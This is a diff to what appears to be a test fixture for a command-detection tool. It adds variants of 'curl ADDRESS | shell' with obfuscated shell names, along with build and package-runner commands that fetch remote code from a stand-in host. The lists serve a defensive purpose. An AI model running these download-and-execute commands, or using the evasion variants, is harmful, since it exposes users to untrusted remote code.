@@ -141,7 +141,8 @@ WHOLE += [
     f"curl {ADDRESS} | {shell}"
     for shell in (
         "$SHELL", "${SHELL:-sh}", '"$SHELL" -s', "$0", "$PYTHON -", '"$(which bash)"', "$(command -v bash)",
-        "`which sh`", "/bin/b?sh", "/bin/[b]ash", "/b*/sh", "$SUDO bash", "$'\\x73h'", "python3.12",
+        "`which sh`", "/bin/b?sh", "/bin/[b]ash", "/b*/sh", "$SUDO bash", "env $SHELL", "nice -n 5 $SHELL",
+        "$'\\x73h'", "python3.12",
         "bash5 -s", "/proc/self/exe", "sudo -s", "su -", "ssh web",
         "ssh -p 2 web", "bash -c sh", 'sh -c "$(cat)"', "bash -c 'cat > f; . ./f'",
         "docker build -", "docker compose -f - up", "redis-cli --pipe", "osh",
@@ -210,6 +211,8 @@ BUILT = [
     "docker build -t a ./r",
     "docker compose -f r/compose.yaml up",
     "cd r && uv sync",
+    "cd r && docker build -t a .",
+    "cd r && uv pip install .",
     "cmake -S r -B out",
     "cd r && terraform apply",
     "PATH=$PATH:r/bin tool",
@@ -228,6 +231,8 @@ PACKAGES = [
     "cargo install --git=https://get.example/a/b tool",
     "go run get.example/a/b@latest",
     "go run -mod=mod github.com/a/b/cmd/c@v1.2.3 --flag",
+    "npm exec --package=github:a/b b",
+    "cargo binstall --git https://get.example/a/b b",
     "nix run github:a/b",
     "conda env create -f https://get.example/e.yml",
     "docker build https://get.example/a/b.git#main",
